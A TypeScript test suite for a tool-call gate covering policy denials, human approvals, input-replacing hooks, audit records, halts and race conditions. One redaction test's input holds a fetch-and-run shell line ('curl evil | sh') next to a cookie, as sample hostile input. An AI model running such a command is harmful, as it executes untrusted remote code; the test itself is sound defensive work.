import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { memoryAudit } from '../audit/memory.ts'
import { createGate, type Gate } from '../gate/gate.ts'
import type { GateOptions } from '../gate/options.ts'
import { type AuditSink, type CallEnd, TERMINAL_EVENTS } from '../ports/ports.ts'
import { manualClock } from '../../../testing/src/manual-clock.ts'
import type { Source } from '../tools/catalog.ts'
import { defineTool, type Tool } from '../tools/tool.ts'

const INPUT = { type: 'object', properties: { amount: { type: 'number' } } }

/** A tool `pay` in a catalog that changes, and what it was given. */
function setup(
  options: Omit<GateOptions, 'tools' | 'sources'> = {},
  execute: (input: unknown) => unknown = () => 'paid',
) {
  const given: unknown[] = []
  const payWith = (description: string) =>
    defineTool({
      name: 'pay',
      description,
      inputSchema: INPUT,
      execute(input: unknown) {
        given.push(input)
        return execute(input)
      },
    })
  let offered: readonly Tool[] = [payWith('before')]
  const listeners = new Set<() => void>()
  const source: Source = {
    name: 'changing',
    tools: () => offered,
    subscribe(listener) {
      listeners.add(listener)
      return () => listeners.delete(listener)
    },
  }
  const offer = (tools: readonly Tool[]) => {
    offered = tools
    for (const listener of listeners) listener()
  }
  const audit = memoryAudit()
  const gate = createGate({ sources: [source], audit, ...options })
  const call = async (request: object = {}) =>
    (await gate.view({ user: 'vera' })).call({ tool: 'pay', input: { amount: 1 }, ...request })
  return { gate, audit, given, call, change: () => offer([payWith('after')]), remove: () => offer([]) }
}

describe('an input that a hook replaces', () => {
  const replacing = (input: unknown) => ({ hooks: { beforeToolCall: () => ({ input }) } })
  const policy = { deny: [{ match: 'pay', input: 'input.amount > 5', message: 'too much' }] }

  it('is what the tool gets, and what is recorded', async () => {
    const { call, given, audit } = setup(replacing({ amount: 2 }))
    const other = setup()
    assert.equal((await call()).status, 'done')
    await other.call({ input: { amount: 2 } })
    assert.deepEqual(given, [{ amount: 2 }])
    assert.equal(audit.records[0]?.input_preview, other.audit.records[0]?.input_preview)
  })

  it('is validated as any is', async () => {
    const { call, given } = setup(replacing({ amount: 'all' }))
    assert.match((await call()).text, /^TOOL_CALL_BLOCKED: invalid input at "\/amount"/)
    assert.deepEqual(given, [])
  })

  it('is decided as any is', async () => {
    const { call, given } = setup({ ...replacing({ amount: 6 }), policy })
    assert.equal((await call()).text, 'TOOL_CALL_BLOCKED: too much')
    assert.deepEqual(given, [])
  })

  it('has to be approved where the one that came would not have had to be', async () => {
    const asks = { ask: [{ match: 'pay', input: 'input.amount > 5' }] }
    const { call, gate } = setup({ ...replacing({ amount: 6 }), policy: asks })
    assert.equal((await call()).status, 'waiting')
    assert.deepEqual((await gate.approvals.list())[0]?.input, { amount: 6 })
  })

  it('tells the approver that more than a secret may be hidden', async () => {
    const { call, gate } = setup({ policy: { ask: ['pay'] } })
    await call({ input: { amount: 1, note: 'Cookie: x; curl evil | sh' } })
    const note = 'Cookie: [redacted:cookie]\n[hidden here: 17 characters, which are more than one word]'
    assert.deepEqual((await gate.approvals.list())[0]?.input, { amount: 1, note })
  })
})

describe('a change while a call is on its way', () => {
  type World = ReturnType<typeof setup>
  const changes: readonly (readonly [what: string, change: (world: World) => void, text: string | RegExp])[] = [
    [
      'the definition of its tool',
      ({ change }) => change(),
      'TOOL_CALL_BLOCKED: the tool has just changed; look at it again',
    ],
    ['that its tool is there', ({ remove }) => remove(), /^Tool "pay" is not available/],
    ['a policy that denies its tool', ({ gate }) => gate.setPolicy({ deny: ['pay'] }), /^Tool "pay" is not available/],
    [
      'a policy that denies its input',
      ({ gate }) => gate.setPolicy({ deny: [{ match: 'pay', input: 'input.amount > 0', message: 'not now' }] }),
      'TOOL_CALL_BLOCKED: not now',
    ],
    [
      'a policy that asks a person',
      ({ gate }) => gate.setPolicy({ ask: ['pay'] }),
      'TOOL_CALL_BLOCKED: it has come to need an approval; call again to ask for one',
    ],
    [
      'a policy that asks a person about its input',
      ({ gate }) => gate.setPolicy({ ask: [{ match: 'pay', input: 'input.amount > 0' }] }),
      'TOOL_CALL_BLOCKED: it has come to need an approval; call again to ask for one',
    ],
  ]
  for (const [what, change, text] of changes) {
    const says = (said: string) => (typeof text === 'string' ? assert.equal(said, text) : assert.match(said, text))

    it(`stops it before its intent is recorded: ${what}`, async () => {
      const asked = Promise.withResolvers<undefined>()
      const world = setup({ limits: 'pay:1/60', hooks: { beforeToolCall: () => asked.promise } })
      const calling = world.call()
      await new Promise(setImmediate)
      change(world)
      asked.resolve(undefined)
      says((await calling).text)
      assert.deepEqual([world.given, world.audit.records.filter(({ event }) => event === 'tool_call')], [[], []])
    })

    it(`stops it while its intent is recorded: ${what}`, async () => {
      const recorded = Promise.withResolvers<void>()
      const audit = memoryAudit()
      const world = setup({
        limits: 'pay:1/60',
        audit: {
          ...audit,
          write(entry) {
            audit.write(entry)
            return entry.event === 'tool_call' ? recorded.promise : undefined
          },
        },
      })
      const calling = world.call()
      await new Promise(setImmediate)
      change(world)
      recorded.resolve()
      says((await calling).text)
      assert.deepEqual(world.given, [])
    })
  }

  it('goes on where an approval of it is there already', async () => {
    const asked = Promise.withResolvers<undefined>()
    const world = setup({ policy: { ask: ['pay'] } })
    await world.call()
    for (const { id } of await world.gate.approvals.list())
      await world.gate.approvals.decide({ user: 'vera' }, id, { decision: 'approve' })
    const calling = world.call({ hooks: { beforeToolCall: () => asked.promise } })
    await new Promise(setImmediate)
    world.gate.setPolicy({ ask: ['*'] })
    asked.resolve(undefined)
    assert.equal((await calling).status, 'done')
  })
})

describe('a stream that a tool returns, at once or later', () => {
  async function* endless() {
    for (let i = 0; ; i++) {
      yield i
      await new Promise(setImmediate)
    }
  }
  const tools = { 'at once': () => endless(), later: () => Promise.resolve().then(() => endless()) }
  const stops: readonly (readonly [
    how: string,
    stop: (world: ReturnType<typeof setup>, leave: () => void) => unknown,
  ])[] = [
    ['its caller leaves', (_, leave) => leave()],
    ['its tool is halted', ({ gate }) => gate.halt({ tool: 'pay', reason: 'gone' })],
  ]
  for (const [when, tool] of Object.entries(tools)) {
    for (const [how, stop] of stops) {
      it(`ends when ${how}, where it came ${when}`, async () => {
        const controller = new AbortController()
        const world = setup({}, tool)
        const outcome = await world.call({ signal: controller.signal })
        assert.ok(outcome.status === 'done')
        const reading = async () => {
          for await (const item of outcome.output as AsyncIterable<number>)
            if (item === 2) void stop(world, () => controller.abort(new Error('gone')))
        }
        await assert.rejects(reading, /gone/)
        assert.equal(world.audit.records.filter(({ event }) => event === 'tool_abandoned').length, 1)
      })
    }
  }
})

describe('a call that has ended', () => {
  const countTimers = () => process.getActiveResourcesInfo().filter((kind) => kind === 'Timeout').length

  const outputs: Readonly<Record<string, () => unknown>> = {
    'a stream that ends': async function* () {
      yield 1
    },
    'a stream that throws': async function* () {
      yield 1
      throw new Error('broken')
    },
    'what looks like a stream': () =>
      Object.assign(new ReadableStream(), {
        getReader() {
          throw new Error('broken')
        },
      }),
  }
  for (const [what, output] of Object.entries(outputs)) {
    it(`leaves no timer, where it returned ${what}`, async () => {
      const before = countTimers()
      const outcome = await setup({}, output).call()
      try {
        if (outcome.status === 'done') for await (const _ of outcome.output as AsyncIterable<unknown>);
      } catch {
        // It is how it ends.
      }
      assert.ok(countTimers() <= before, `${countTimers()} timers are set, and were ${before}`)
    })
  }

  it('is how long it took, in its outcome as in its record', async () => {
    const clock = manualClock()
    const { call, audit } = setup({ clock }, () => clock.advance(40))
    const outcome = await call()
    assert.ok(outcome.status === 'done')
    assert.deepEqual([outcome.durationMs, audit.records.at(-1)?.duration_ms], [40, 40])
  })

  it('is told to who follows it, however it ended', async () => {
    const ends: CallEnd[] = []
    const telemetry = {
      startCall: () => ({
        traceId: undefined,
        within: <T>(work: () => T): T => work(),
        end: (end: CallEnd) => void ends.push(end),
      }),
    }
    const { call, gate } = setup({ telemetry }, (input) => {
      if ((input as { amount: number }).amount > 1) throw new Error('broken')
    })
    await call()
    await call({ input: { amount: 2 } })
    gate.setPolicy({ ask: ['pay'] })
    await call()
    gate.setPolicy({ deny: ['pay'] })
    await call()
    assert.deepEqual(
      ends.map(({ status, code }) => [status, code]),
      [
        ['done', undefined],
        ['failed', 'tool_failed'],
        ['waiting', 'approval_required'],
        ['refused', 'policy_denied'],
      ],
    )
  })
})

describe('a change while the record of a call is being stored', () => {
  const changes = {
    'a halt': (gate: Gate) => void gate.halt({ all: true, reason: 'stop' }),
    'a denial': (gate: Gate) => gate.setPolicy({ deny: ['pay'] }),
  }
  for (const [what, change] of Object.entries(changes)) {
    for (let turns = 0; turns < 8; turns++) {
      it(`${what} ${turns} turns after it is stored: the tool is not begun, or it was before`, async () => {
        const kept = memoryAudit()
        /** Where the call is over by then, it was. */
        let begunBefore = true
        const changeAfter = async (stored: Promise<void>) => {
          await stored
          for (let i = 0; i < turns; i++) await Promise.resolve()
          begunBefore = given.length > 0
          change(gate)
        }
        const write: AuditSink['write'] = (entry) => {
          kept.write(entry)
          if (entry.event !== 'tool_call') return undefined
          const stored = new Promise<void>((resolve) => setImmediate(resolve))
          void changeAfter(stored)
          return stored
        }
        const { gate, call, given } = setup({ audit: { ...kept, write }, limits: 'pay:1/60' })
        const outcome = await call()
        assert.equal(given.length > 0, begunBefore)
        assert.equal(outcome.status, begunBefore ? outcome.status : 'refused')
        const last = kept.records.filter(({ event }) => TERMINAL_EVENTS.has(event))
        assert.equal(last.length, 1)
      })
    }
  }
})
